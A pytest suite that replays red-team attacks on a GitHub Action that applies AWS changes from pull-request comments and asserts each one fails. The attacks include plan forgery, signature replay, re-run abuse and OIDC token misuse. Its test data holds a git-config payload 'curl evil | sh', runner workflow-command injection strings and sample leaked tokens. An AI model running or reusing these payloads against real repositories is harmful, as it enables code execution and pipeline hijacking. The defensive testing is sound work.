"""The red team's attacks (issue 14), each performed end to end and shown to fail.

Each test plays the attacker against the action as GitHub runs it: moto's server for
AWS, the fake GitHub over HTTP, the run's real environment. The attacker is a
collaborator with write access, another workflow posting as the same
``github-actions[bot]``, someone who re-runs a job, or a stranger who can comment.
Every test asserts that nothing changed in AWS, not only that the answer refused.
"""

from __future__ import annotations

import json
import re
import threading
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from conftest import REPO
from e2e_support import (
    ACCOUNT,
    KEY,
    READ_ROLE,
    WRITE_ROLE,
    instance_entry,
    run_report,
    state_of,
    thread_plan,
)

from devops_agent import plans
from devops_agent.signing import SigningKey
from devops_agent_sandbox.payloads import comment_event

pytestmark = [pytest.mark.e2e, pytest.mark.in_process]

BOT = {"user": "github-actions[bot]", "user_type": "Bot"}


def plan_comments(github: Any, number: int) -> list[dict[str, Any]]:
    """The thread's plan comments (not the rollback plans that applies' answers carry)."""
    return [
        c
        for c in github.comments(REPO, number)
        if "devops-agent:plan " in c["body"]
        and not any(b.plan is not None and b.plan.rollback_of for b in plans.find_blocks(c["body"]))
    ]


def run_comment(
    action: Any,
    github: Any,
    number: int,
    body: str = "",
    *,
    login: str = "alice",
    comment: dict[str, Any] | None = None,
    created_at: str | None = None,
    environ: dict[str, str] | None = None,
    in_process: bool | None = None,
    **inputs: str,
) -> Any:
    """Run the action for a comment (posted now unless ``comment`` was posted earlier)."""
    comment = comment or github.add_comment(REPO, number, body=body, user=login)
    payload = comment_event(
        REPO,
        number,
        comment["body"],
        login=comment["user"]["login"],
        is_pr=True,
        comment_id=int(comment["id"]),
        server_url=github.server_url,
        api_url=github.url,
        created_at=created_at or comment["created_at"],
    )
    env = action.env("issue_comment", payload, **inputs)
    env.update(environ or {})
    return action.run(env, in_process=in_process)


def stop_planned(action: Any, github: Any, estate: dict[str, Any], **inputs: str) -> Any:
    """alice asks, on a new pull request, to stop web-1 (with the write role configured).

    Returns:
        web-1's id, the pull request, and the run that planned it.
    """
    web1 = estate["instances"]["web-1"]["id"]
    pull = github.add_pull(REPO, title="x", user="alice")
    planned = run_comment(
        action,
        github,
        pull["number"],
        f"/devops ec2 stop {web1}",
        aws_write_role_to_assume=WRITE_ROLE,
        **inputs,
    )
    return web1, pull, planned


def apply_plan(action: Any, github: Any, number: int, plan_id: str, **kw: Any) -> Any:
    """``/devops apply PLAN_ID`` in the thread, with the write role unless ``kw`` names one."""
    kw.setdefault("aws_write_role_to_assume", WRITE_ROLE)
    return run_comment(action, github, number, f"/devops apply {plan_id}", **kw)


def forged_plan(pull: dict[str, Any], web1: str, **changes: Any) -> plans.Plan:
    """The reproduced forgery: a description that says reboot, arguments that terminate."""
    entry = instance_entry("terminate", web1, f"Reboot 1 instance in us-east-1: {web1} (web-1)")
    values = {
        "requester": "someone-else",  # spoofed, to dodge require-second-approver
        "account": ACCOUNT,
        "ledger_sha": "a" * 40,
        **changes,
    }
    return thread_plan(pull, [entry], **values)


@pytest.fixture
def people(github):
    """bob is an admin who approves; carol and alice have write access (alice maintain)."""
    github.set_permission(REPO, "bob", "admin")
    github.set_permission(REPO, "carol", "write")


# --------------------------------------------------------------------------- 1. approvals


def test_a_queued_bare_apply_ignores_a_plan_posted_after_it(
    action, github, server_session, estate, people
):
    """bob's `/devops apply` waits in a queue; meanwhile alice posts a terminate plan."""
    web1 = estate["instances"]["web-1"]["id"]
    pull = github.add_pull(REPO, title="x", user="alice")
    approval = github.add_comment(REPO, pull["number"], body="/devops apply", user="bob")
    planned = run_comment(
        action,
        github,
        pull["number"],
        f"/devops ec2 terminate {web1}",
        aws_write_role_to_assume=WRITE_ROLE,
    )
    assert planned.outputs["status"] == "planned"
    queued = run_comment(
        action, github, pull["number"], comment=approval, aws_write_role_to_assume=WRITE_ROLE
    )
    assert queued.code == 3, queued.stdout
    assert "after your apply comment" in queued.summary
    assert state_of(server_session, web1) == "running"


def test_a_queued_bare_apply_ignores_a_plan_written_into_an_older_comment(
    action, github, server_session, estate, people
):
    """A slow plan run posts a progress comment first and writes the plan into it later."""
    web1 = estate["instances"]["web-1"]["id"]
    pull = github.add_pull(REPO, title="x", user="alice")
    progress = github.add_comment(REPO, pull["number"], body="### ⏳ Working…", **BOT)
    approval = github.add_comment(REPO, pull["number"], body="/devops apply", user="bob")
    minute_ago = (datetime.now(UTC) - timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    # the plan run finishes after bob commented: a valid, signed plan lands in the comment
    plan = thread_plan(
        pull,
        [instance_entry("terminate", web1, "Terminate web-1")],
        account=ACCOUNT,
        ledger_sha="a" * 40,
    )
    github.tamper_comment(
        REPO, progress["id"], plans.render_block(plan, KEY), editor="github-actions[bot]"
    )
    run = run_comment(
        action,
        github,
        pull["number"],
        comment=approval,
        created_at=minute_ago,
        aws_write_role_to_assume=WRITE_ROLE,
    )
    assert run.code == 3 and "after your apply comment" in run.summary
    # named, too: an id the approver could not have read is not applied
    named = github.add_comment(
        REPO, pull["number"], body=f"/devops apply {plan.plan_id}", user="bob"
    )
    run = run_comment(
        action,
        github,
        pull["number"],
        comment=named,
        created_at=minute_ago,
        aws_write_role_to_assume=WRITE_ROLE,
    )
    assert run.code == 3 and "after your apply comment" in run.summary
    assert state_of(server_session, web1) == "running"


def test_a_bare_apply_never_falls_back_past_a_corrupted_newest_plan(
    action, github, server_session, estate
):
    """Another workflow breaks the newest plan's signature, hoping a bare apply takes the
    older (terminate) plan instead."""
    web1 = estate["instances"]["web-1"]["id"]
    pull = github.add_pull(REPO, title="x", user="alice")
    rules = {"aws_write_role_to_assume": WRITE_ROLE}
    run_comment(action, github, pull["number"], f"/devops ec2 terminate {web1}", **rules)
    run_comment(action, github, pull["number"], f"/devops ec2 reboot {web1}", **rules)
    newest = plan_comments(github, pull["number"])[-1]
    broken = re.sub(r"sig=[0-9a-f]{64}", "sig=" + "0" * 64, newest["body"])
    github.tamper_comment(REPO, newest["id"], broken, editor="github-actions[bot]")
    run = run_comment(action, github, pull["number"], "/devops apply", **rules)
    assert run.code == 3 and "signature does not match" in run.summary
    assert state_of(server_session, web1) == "running"


def test_a_rerun_by_someone_else_applies_nothing(action, github, server_session, estate, people):
    """Re-running bob's apply from the Actions tab does not make carol's click bob's approval."""
    web1, pull, planned = stop_planned(action, github, estate)
    approval = github.add_comment(
        REPO, pull["number"], body=f"/devops apply {planned.outputs['plan-id']}", user="bob"
    )
    first = run_comment(action, github, pull["number"], comment=approval)  # no write role yet
    assert first.code == 3
    for who in ({"GITHUB_TRIGGERING_ACTOR": "carol"}, {"GITHUB_TRIGGERING_ACTOR": ""}):
        rerun = run_comment(
            action,
            github,
            pull["number"],
            comment=approval,
            environ={"GITHUB_RUN_ATTEMPT": "2", **who},
            aws_write_role_to_assume=WRITE_ROLE,
        )
        assert rerun.code == 3, rerun.stdout
        assert "re-run 2 of @bob's command" in rerun.summary
        assert state_of(server_session, web1) == "running"
    own = run_comment(
        action,
        github,
        pull["number"],
        comment=approval,
        environ={"GITHUB_RUN_ATTEMPT": "3", "GITHUB_TRIGGERING_ACTOR": "bob"},
        aws_write_role_to_assume=WRITE_ROLE,
    )
    assert own.code == 0, own.stdout
    assert "applied by @bob" in own.summary
    assert state_of(server_session, web1) in ("stopping", "stopped")


def test_a_rerun_by_someone_else_proposes_nothing(action, github, server_session, estate, people):
    web1 = estate["instances"]["web-1"]["id"]
    pull = github.add_pull(REPO, title="x", user="alice")
    asked = github.add_comment(REPO, pull["number"], body=f"/devops ec2 stop {web1}", user="bob")
    rerun = run_comment(
        action,
        github,
        pull["number"],
        comment=asked,
        environ={"GITHUB_RUN_ATTEMPT": "2", "GITHUB_TRIGGERING_ACTOR": "carol"},
        aws_write_role_to_assume=WRITE_ROLE,
    )
    assert rerun.code == 3 and "started by @carol" in rerun.summary
    assert plan_comments(github, pull["number"]) == []
    # reads are still answered on a re-run
    read = run_comment(
        action,
        github,
        pull["number"],
        "/devops ec2 list",
        login="bob",
        environ={"GITHUB_RUN_ATTEMPT": "2", "GITHUB_TRIGGERING_ACTOR": "carol"},
    )
    assert read.code == 0


# --------------------------------------------------------------------------- 2. identity


def forgeries(pull: dict[str, Any], web1: str, real: dict[str, Any]) -> dict[str, str]:
    """Comment bodies another workflow (posting as github-actions[bot]) could write."""
    forged = forged_plan(pull, web1)
    other = SigningKey("a-key-the-attacker-made-up-0123456789abcdef")
    (found,) = plans.find_blocks(real["body"])
    real_sig = found.signature
    tampered_args = real["body"].replace('"reboot"', '"terminate"')
    rehashed = plans.render_block(forged, KEY).replace(
        plans.find_blocks(plans.render_block(forged, KEY))[0].signature, real_sig
    )
    return {
        "unsigned": plans.render_block(forged, None),
        "wrong key": plans.render_block(forged, other),
        "replayed signature": rehashed,
        "tampered arguments": tampered_args,
        "tampered requester": real["body"].replace('"requester":"alice"', '"requester":"zed"'),
    }


@pytest.mark.parametrize(
    "kind",
    [
        "unsigned",
        "wrong key",
        "replayed signature",
        "tampered arguments",
        "tampered requester",
    ],
)
def test_a_plan_forged_by_another_workflow_is_refused(
    action, github, server_session, estate, people, kind
):
    """Another workflow posts or edits as github-actions[bot]; only the key can sign."""
    web1 = estate["instances"]["web-1"]["id"]
    rules = {"aws_write_role_to_assume": WRITE_ROLE, "require_second_approver": "true"}
    pull = github.add_pull(REPO, title="x", user="alice")
    run_comment(action, github, pull["number"], f"/devops ec2 reboot {web1}", **rules)
    (real,) = plan_comments(github, pull["number"])
    body = forgeries(pull, web1, real)[kind]
    if kind.startswith("tampered"):
        github.tamper_comment(REPO, real["id"], body, editor="github-actions[bot]")
    else:
        github.add_comment(REPO, pull["number"], body=body, **BOT)
    found = plans.find_blocks(body)
    plan_id = found[0].plan_id if found else "000000000000"
    run = run_comment(action, github, pull["number"], f"/devops apply {plan_id}", **rules)
    assert run.code == 3, f"{kind}: {run.summary}"
    assert state_of(server_session, web1) == "running"


def test_an_applied_plan_reset_by_a_bot_edit_is_not_applied_again(
    action, github, server_session, estate, people
):
    web1, pull, planned = stop_planned(action, github, estate)
    (comment,) = plan_comments(github, pull["number"])
    pending_body = comment["body"]  # signature and all, as it was when pending
    applied = apply_plan(action, github, pull["number"], planned.outputs["plan-id"], login="bob")
    assert applied.code == 0, applied.stdout
    ec2 = server_session.client("ec2", region_name="us-east-1")
    ec2.start_instances(InstanceIds=[web1])
    # another workflow restores the pending body, valid old signature included
    github.tamper_comment(REPO, comment["id"], pending_body, editor="github-actions[bot]")
    (restored,) = plans.find_blocks(plan_comments(github, pull["number"])[0]["body"])
    assert restored.state == "pending" and restored.signed_by(KEY)
    again = apply_plan(action, github, pull["number"], planned.outputs["plan-id"], login="bob")
    assert again.code == 3 and "was applied by run" in again.summary
    assert state_of(server_session, web1) in ("pending", "running")


def test_apply_without_a_signing_key_refuses_and_says_how(action, github, server_session, estate):
    web1, pull, planned = stop_planned(action, github, estate, plan_signing_key="")
    (comment,) = plan_comments(github, pull["number"])
    assert "unsigned" in comment["body"] and "can never be applied" in comment["body"]
    apply = f"/devops apply {planned.outputs['plan-id']}"
    keyless = run_comment(
        action,
        github,
        pull["number"],
        apply,
        aws_write_role_to_assume=WRITE_ROLE,
        plan_signing_key="",
    )
    assert keyless.code == 3
    assert "No plan-signing-key is configured" in keyless.summary
    assert (
        "protected environment" in keyless.summary
        and "environment: devops-agent" in keyless.summary
    )
    keyed = run_comment(action, github, pull["number"], apply, aws_write_role_to_assume=WRITE_ROLE)
    assert keyed.code == 3 and "is unsigned" in keyed.summary
    assert state_of(server_session, web1) == "running"
    short = run_comment(action, github, pull["number"], "/devops help", plan_signing_key="short")
    assert short.code == 2 and "plan-signing-key" in short.stdout and "short" not in short.stdout


def test_a_signed_plan_replayed_in_another_thread_or_repository_is_refused(
    action, github, server_session, estate
):
    web1, first, planned = stop_planned(action, github, estate)
    (comment,) = plan_comments(github, first["number"])
    second = github.add_pull(REPO, title="y", user="alice")
    github.add_comment(REPO, second["number"], body=comment["body"], **BOT)
    moved = apply_plan(action, github, second["number"], planned.outputs["plan-id"])
    assert moved.code == 3 and "belongs to another thread" in moved.summary
    # signed by an installation sharing the key, for another repository
    elsewhere = forged_plan(second, web1, repository="acme/other", requester="alice")
    github.add_comment(REPO, second["number"], body=plans.render_block(elsewhere, KEY), **BOT)
    run = apply_plan(action, github, second["number"], elsewhere.plan_id)
    assert run.code == 3 and "belongs to another thread" in run.summary
    assert state_of(server_session, web1) == "running"


def test_what_is_shown_comes_from_the_arguments(action, github, server_session, estate):
    """A Name tag that reads like a harmless change cannot hide what the arguments do."""
    web2 = estate["instances"]["web-2"]["id"]
    ec2 = server_session.client("ec2", region_name="eu-west-1")
    ec2.create_tags(Resources=[web2], Tags=[{"Key": "Name", "Value": "reboot only, harmless"}])
    pull = github.add_pull(REPO, title="x", user="alice")
    planned = run_comment(
        action,
        github,
        pull["number"],
        f"/devops ec2 terminate {web2} --region eu-west-1",
        aws_write_role_to_assume=WRITE_ROLE,
    )
    (comment,) = plan_comments(github, pull["number"])
    exact = f"ec2.instance_state(action=terminate, instance_ids={web2}, region=eu-west-1)"
    assert exact in comment["body"]
    applied = apply_plan(action, github, pull["number"], planned.outputs["plan-id"])
    assert applied.code == 0, applied.stdout
    # the Change column is the exact operation, not the name AWS holds
    assert f"| 1 | {exact} |" in applied.summary


def test_arguments_that_do_not_validate_to_the_block_are_refused(
    action, github, server_session, estate
):
    """Even a signed block must hold arguments exactly as the operation's model writes them."""
    web1 = estate["instances"]["web-1"]["id"]
    pull = github.add_pull(REPO, title="x", user="alice")
    for args, operation in (
        ({"action": "STOP", "region": "us-east-1", "instance_ids": [web1]}, "ec2.instance_state"),
        (
            {"action": "stop", "region": "us-east-1", "instance_ids": [web1], "x": 1},
            "ec2.instance_state",
        ),
        ({"action": "stop"}, "ec2.instance_nuke"),
    ):
        plan = thread_plan(
            pull,
            [plans.PlanEntry(operation=operation, args=args, description="Stop web-1")],
            account=ACCOUNT,
            ledger_sha="a" * 40,
        )
        github.add_comment(REPO, pull["number"], body=plans.render_block(plan, KEY), **BOT)
        run = apply_plan(action, github, pull["number"], plan.plan_id)
        assert run.code == 3, run.summary
        assert state_of(server_session, web1) == "running"


# --------------------------------------------------------------------------- 3. roles


def test_apply_refuses_a_token_from_outside_the_protected_environment(
    action, github, server_session, estate
):
    """A branch's workflow (or a misconfigured job) has the wrong `sub`: refused, claims shown."""
    web1 = estate["instances"]["web-1"]["id"]
    pull = github.add_pull(REPO, title="x", user="alice")
    oidc = {"ACTIONS_ID_TOKEN_REQUEST_TOKEN": "rt"}
    roles = {"aws_role_to_assume": READ_ROLE, "aws_write_role_to_assume": WRITE_ROLE}

    def apply_with(claims: dict[str, str], **inputs: str) -> Any:
        url = github.enable_oidc("rt", claims)
        planned = run_comment(
            action,
            github,
            pull["number"],
            f"/devops ec2 stop {web1}",
            environ={**oidc, "ACTIONS_ID_TOKEN_REQUEST_URL": url},
            **roles,
        )
        assert planned.code == 0, planned.stdout
        return run_comment(
            action,
            github,
            pull["number"],
            f"/devops apply {planned.outputs['plan-id']}",
            environ={**oidc, "ACTIONS_ID_TOKEN_REQUEST_URL": url},
            **roles,
            **inputs,
        )

    branch = {"sub": f"repo:{REPO}:ref:refs/heads/evil", "ref": "refs/heads/evil"}
    refused = apply_with(branch, apply_environment="devops-agent")
    assert refused.code == 3
    assert f"sub=repo:{REPO}:ref:refs/heads/evil" in refused.summary
    assert f"repo:{REPO}:environment:devops-agent" in refused.summary
    unset = apply_with({"sub": f"repo:{REPO}:environment:devops-agent"})
    assert unset.code == 3 and "apply-environment is not set" in unset.summary
    other_env = {"sub": f"repo:{REPO}:environment:staging", "environment": "staging"}
    assert apply_with(other_env, apply_environment="devops-agent").code == 3
    assert state_of(server_session, web1) == "running"
    # the environment's token, in GitHub's default or a customized `sub`, is accepted
    custom = {
        "sub": f"repo:{REPO}:environment:devops-agent:job_workflow_ref:"
        f"{REPO}/.github/workflows/devops.yml@refs/heads/main",
        "environment": "devops-agent",
    }
    done = apply_with(custom, apply_environment="devops-agent")
    assert done.code == 0, done.summary
    assert state_of(server_session, web1) in ("stopping", "stopped")


# --------------------------------------------------------------------------- 4. account


def test_a_plan_from_another_account_is_refused(action, github, server_session):
    """A plan made in account A is never carried out with a write role in account B."""
    other = "210987654321"
    sts = server_session.client("sts", region_name="us-east-1")
    creds = sts.assume_role(RoleArn=f"arn:aws:iam::{other}:role/admin", RoleSessionName="seed")[
        "Credentials"
    ]
    import boto3

    in_b = boto3.Session(
        aws_access_key_id=creds["AccessKeyId"],
        aws_secret_access_key=creds["SecretAccessKey"],
        aws_session_token=creds["SessionToken"],
        region_name="us-east-1",
    ).client("iam")
    in_b.create_user(UserName="old-bot")
    server_session.client("iam").create_user(UserName="old-bot")
    pull = github.add_pull(REPO, title="x", user="alice")
    planned = run_comment(
        action,
        github,
        pull["number"],
        "/devops iam user delete old-bot",
        aws_write_role_to_assume=WRITE_ROLE,
    )
    assert planned.outputs["status"] == "planned", planned.summary
    run = run_comment(
        action,
        github,
        pull["number"],
        f"/devops apply {planned.outputs['plan-id']}",
        aws_write_role_to_assume=f"arn:aws:iam::{other}:role/devops-agent-write",
    )
    assert run.code == 3
    assert "made in AWS account 123456789012" in run.summary and other in run.summary
    assert in_b.get_user(UserName="old-bot")["User"]["UserName"] == "old-bot"
    # nothing was claimed: the right role may still apply it
    assert apply_plan(action, github, pull["number"], planned.outputs["plan-id"]).code == 0


# --------------------------------------------------------------------------- 5. stalling


def test_hostile_comments_cannot_stall_an_apply(action, github, server_session, estate):
    """65,536-character comments full of markers, by a stranger and by another workflow."""
    web1, pull, planned = stop_planned(action, github, estate)
    mark = f"<!-- devops-agent:plan {planned.outputs['plan-id']} state=pending -->```json\n{{"
    hostile = (mark * (65_536 // len(mark)))[:65_536]
    for author in ({"user": "mallory"}, {"user": "mallory"}, BOT):
        github.add_comment(REPO, pull["number"], body=hostile, **author)
    started = time.monotonic()
    run = apply_plan(
        action, github, pull["number"], planned.outputs["plan-id"], timeout_seconds="5"
    )
    assert run.code == 0, run.summary
    assert time.monotonic() - started < 5
    assert state_of(server_session, web1) in ("stopping", "stopped")


# --------------------------------------------------------------------------- 6. secrets


def exits(run: Any, github: Any, number: int) -> str:
    report = run.workspace / ".devops-agent" / "report.json"
    return "\n".join(
        [
            json.dumps([c["body"] for c in github.comments(REPO, number)]),
            json.dumps([c.get("output") for c in github.check_runs(REPO)]),
            run.summary,
            json.dumps(run.outputs),
            run.outputs.get("result", ""),
            run.stdout,
            run.stderr,
            report.read_text() if report.exists() else "",
        ]
    )


def test_secrets_in_structured_data_reach_no_exit(action, github, server_session):
    """A short tag value under a secret name is caught in JSON, not only in the table."""
    ec2 = server_session.client("ec2", region_name="us-east-1")
    instance = ec2.run_instances(ImageId="ami-12c6146b", MinCount=1, MaxCount=1)["Instances"][0][
        "InstanceId"
    ]
    secrets = {"DB_PASSWORD": "hunter2", "client_secret": "s3cr3tv4lue", "apiKey": "k3y"}
    ec2.create_tags(
        Resources=[instance],
        Tags=[{"Key": k, "Value": v} for k, v in secrets.items()]
        + [{"Key": "Name", "Value": "db"}],
    )
    pull = github.add_pull(REPO, title="x", user="alice")
    run = run_comment(action, github, pull["number"], f"/devops ec2 describe {instance}")
    assert run.code == 0, run.stdout
    out = exits(run, github, pull["number"])
    assert "DB_PASSWORD" in out and instance in out  # the answer did go out
    for value in secrets.values():
        assert value not in out, value
    report = run_report(run)
    assert "hunter2" not in json.dumps(report) and "[REDACTED]" in json.dumps(report)


WHY_LOG = (
    "2026-11-25T10:00:00.0000000Z ##[group]Run npm publish\n"
    "2026-11-25T10:00:01.0000000Z npm ERR! code E401 using npm_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8\n"
    '2026-11-25T10:00:02.0000000Z Error: {"error":"invalid_client","client_secret":"cs_9f8e7d6c"}\n'
    "2026-11-25T10:00:03.0000000Z Error: notify https://hooks.slack.com/services/T0123ABCD/B0123ABCD/"
    "a1b2c3d4e5f6g7h8i9j0k1l2\n"
    "2026-11-25T10:00:04.0000000Z Error: deploy failed with DEPLOY_TOKEN=dt_4f3e2d1c0b9a8f7e6d5c\n"
    "2026-11-25T10:00:04.0000000Z 9b8a7f6e5d4c3b2a1f0e\n"
    "2026-11-25T10:00:05.0000000Z ##[error]Process completed with exit code 1.\n"
)
WHY_SECRETS = (
    "npm_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "cs_9f8e7d6c",
    "a1b2c3d4e5f6g7h8i9j0k1l2",
    "dt_4f3e2d1c0b9a8f7e6d5c",
    "9b8a7f6e5d4c3b2a1f0e",
)


def test_secrets_in_a_failed_jobs_log_reach_no_exit(action, github):
    """`workflows why` quotes the log: npm, JSON, Slack and a secret wrapped on two lines."""
    workflow = github.add_workflow(
        REPO, path=".github/workflows/release.yml", content="name: Release\non: push\njobs: {}\n"
    )
    run_ = github.add_run(REPO, workflow["id"], conclusion="failure")
    github.add_job(
        REPO,
        run_["id"],
        name="publish",
        conclusion="failure",
        steps=[("publish", "failure")],
        log=WHY_LOG,
    )
    pull = github.add_pull(REPO, title="x", user="alice")
    github.set_permission(REPO, "alice", "maintain")
    run = run_comment(action, github, pull["number"], f"/devops workflows why {run_['id']}")
    assert run.code == 0, run.stdout
    out = exits(run, github, pull["number"])
    assert "npm ERR! code E401" in out and "invalid_client" in out  # the lines were quoted
    for secret in WHY_SECRETS:
        assert secret not in out, secret


# --------------------------------------------------------------------------- 7. log commands


def executed_commands(log: str) -> list[str]:
    """The workflow commands a runner would act on in ``log`` (honouring stop-commands)."""
    acted: list[str] = []
    stopped: str | None = None
    for line in log.splitlines():
        text = line.strip()
        if stopped is not None:
            if text == f"::{stopped}::":
                stopped = None
            continue
        if text.startswith("::stop-commands::"):
            stopped = text.removeprefix("::stop-commands::")
            continue
        if text.startswith("::"):
            acted.append(text)
    return acted


def test_untrusted_text_cannot_issue_workflow_commands(action, github, monkeypatch):
    """A traceback carrying command lines, and titles and descriptions with line breaks."""
    from botocore.client import BaseClient

    from devops_agent.operation import PlanEntry
    from devops_agent.report import Result

    evil = "boom\n::add-mask::evil\n::set-output name=status::applied\n::stop-commands::x"

    def explode(self, operation_name, api_params):
        raise RuntimeError(evil)

    monkeypatch.setattr(BaseClient, "_make_api_call", explode)
    pull = github.add_pull(REPO, title="x", user="alice")
    run = run_comment(action, github, pull["number"], "/devops ec2 list")
    assert run.code == 1
    assert "Traceback" in run.stdout and "::set-output name=status::applied" in run.stdout
    acted = executed_commands(run.stdout)
    names = {re.match(r"::([a-z-]+)", c).group(1) for c in acted}  # type: ignore[union-attr]
    assert names <= {"add-mask", "error", "warning", "notice", "group", "endgroup"}, acted
    assert "::add-mask::evil" not in acted
    assert run.outputs["status"] == "failure"
    # a title and a legacy plan entry's description stay on one line, whoever built them
    assert (
        Result(title="Plan x: run\n::set-output name=a::b").title
        == "Plan x: run ::set-output name=a::b"
    )
    entry = PlanEntry(
        operation="github.workflow_dispatch", args={}, description="a\r\n::add-mask::x"
    )
    assert "\n" not in entry.description and "\r" not in entry.description


# --------------------------------------------------------------------------- 8. downloads


@pytest.mark.parametrize(
    "target",
    [
        ".git/config",
        ".GIT/hooks/pre-commit",
        "sub/.git/config",
        ".github/workflows/x.yml",
        ".devops-agent/report.json",
        "link/config",
    ],
)
def test_a_download_cannot_plant_files_that_run_later(action, github, server_session, target):
    s3 = server_session.client("s3", region_name="us-east-1")
    s3.create_bucket(Bucket="drop")
    s3.put_object(Bucket="drop", Key="config", Body=b"[core]\n\tfsmonitor = curl evil | sh\n")
    pull = github.add_pull(REPO, title="x", user="alice")
    env = action.comment_env(
        f"/devops s3 download s3://drop/config {target} --force", pr=pull["number"]
    )
    work = Path(env["GITHUB_WORKSPACE"])
    (work / ".git").mkdir()
    (work / ".git" / "config").write_text("[core]\n")
    (work / "link").symlink_to(work / ".git")
    run = action.run(env)
    assert run.code == 2, run.summary
    assert "never write into .git, .github or .devops-agent" in run.summary
    assert (work / ".git" / "config").read_text() == "[core]\n"
    assert not list(work.rglob("pre-commit")) and not (work / ".github").exists()


def test_a_clone_cannot_plant_a_github_folder(action, github):
    """An organization's `.github` repository, cloned into the workspace, would be its
    `.github` folder: workflows and local actions that later steps run."""
    github.add_repo("acme/.github")
    pull = github.add_pull(REPO, title="x", user="alice")
    for name in ("acme/.github", "acme/.GitHub", "acme/.devops-agent"):
        run = run_comment(action, github, pull["number"], f"/devops repo clone {name}")
        assert run.code == 2, run.summary
        assert "nothing was cloned" in run.summary
        assert not (run.workspace / name.split("/")[1] / ".git").exists()
        assert not (run.workspace / ".github").exists()


# --------------------------------------------------------------------------- 9. queued applies


def test_two_applies_of_one_plan_carry_it_out_once(action, github, server_session, estate):
    """With a group per comment, two applies may run at once: the ledger lets one act."""
    _, pull, planned = stop_planned(action, github, estate)
    plan_id = planned.outputs["plan-id"]
    envs = []
    for run_id in ("501", "502"):
        comment = github.add_comment(
            REPO, pull["number"], body=f"/devops apply {plan_id}", user="alice"
        )
        payload = comment_event(
            REPO,
            pull["number"],
            comment["body"],
            login="alice",
            is_pr=True,
            comment_id=int(comment["id"]),
            created_at=comment["created_at"],
        )
        env = action.env("issue_comment", payload, aws_write_role_to_assume=WRITE_ROLE)
        env["GITHUB_RUN_ID"] = run_id
        envs.append(env)
    results: list[Any] = []
    threads = [
        threading.Thread(target=lambda e=env: results.append(action.run(e, in_process=False)))
        for env in envs
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(r.code for r in results) == [0, 3], [r.summary for r in results]
    assert sum("applied by @alice" in r.summary for r in results) == 1
    statuses = github.requests_to("POST", r"/statuses/")
    claims = [r for r in statuses if (r.json or {}).get("description", "").startswith("claim ")]
    outcomes = [r for r in statuses if (r.json or {}).get("description", "").startswith("applied ")]
    assert len(outcomes) == 1 and 1 <= len(claims) <= 2
